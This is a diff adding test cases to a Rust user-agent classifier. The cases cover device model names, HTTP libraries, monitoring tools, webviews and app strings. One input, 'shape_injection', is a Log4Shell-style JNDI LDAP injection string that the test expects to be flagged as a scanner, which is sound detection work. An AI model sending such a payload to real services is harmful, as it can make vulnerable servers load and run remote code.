@@ -117,6 +117,26 @@ classify! {
     nokia_feature_phone: "Nokia6300/2.0 (05.00) Profile/MIDP-2.0 Configuration/CLDC-1.1" => Browser, "-", "-", [];
     // Apps without a browser engine are neither.
     ios_app: "Spotify/8.9.10 iOS/17.4 (iPhone15,2)" => Unknown, "-", "-", [];
+    // Device model names are never catalog tokens (issue 18): Acer's Nitro, Speedy, Expanse
+    acer_nitro_phone: "Mozilla/5.0 (Linux; Android 10; Nitro 5 Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36" => Browser, "-", "-", [];
+    speedy_phone: "Mozilla/5.0 (Linux; U; Android 4.0.4; en-us; Speedy Build/IMM76D) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30" => Browser, "-", "-", [];
+    expanse_reduced_ua: "Mozilla/5.0 (Linux; Android 13; Expanse) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36" => Browser, "-", "-", [];
+    nitro_robot_still_named: "Mozilla/5.0 (compatible; Nitro/1.0)" => Robot, "Nitro", "seo", ["nitro"];
+    // Structural rules (issue 18): shapes no browser, app or device sends
+    shape_lone_product: "fetchkit/0.3" => Robot, "-", "http-library", [];
+    shape_injection: "${jndi:ldap://203.0.113.9/a}" => Robot, "-", "scanner", [];
+    shape_free_text: "anonymous" => Robot, "-", "other", [];
+    shape_mozilla_no_engine: "Mozilla/4.0 (compatible; Fetchkit Library)" => Robot, "-", "http-library", [];
+    shape_service_product: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.7204.168 Safari/537.36 AcmeSynthetics" => Robot, "-", "monitoring", [];
+    shape_service_product_with_version: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 AcmeSiteChecker/3.0" => Robot, "-", "monitoring", [];
+    shape_keeps_app_after_engine: "Mozilla/5.0 (Linux; Android 11; SM-A515F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Mobile Safari/537.36 Banca Caboto" => Browser, "-", "-", [];
+    shape_keeps_webview_app_named_like_a_tool: "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.123 Mobile Safari/537.36 CamScanner/4.8.5" => Browser, "-", "-", [];
+    shape_keeps_text_browser_on_libwww: "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5" => Browser, "-", "-", [];
+    shape_keeps_android_app: "Bible 4.3.7 (samsung GT-P5200 santos103gxx;Android 4.2.2;de_DE;gzip)" => Unknown, "-", "-", [];
+    shape_keeps_feature_phone: "Nokia3510i" => Unknown, "-", "-", [];
+    shape_keeps_webview: "Mozilla/5.0 (Linux; Android 9; SM-G950F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/79.0.3945.79 Mobile Safari/537.36 Viber/12.0.0.4" => Browser, "-", "-", [];
+    shape_keeps_electron_app: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.29.149 Chrome/108.0.5359.179 Electron/22.0.0 Safari/537.36" => Browser, "-", "-", [];
+    shape_keeps_in_app_browser: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.32.106;FBBV/550000000;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.0;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]" => Browser, "-", "-", [];
 }
 
 #[test]
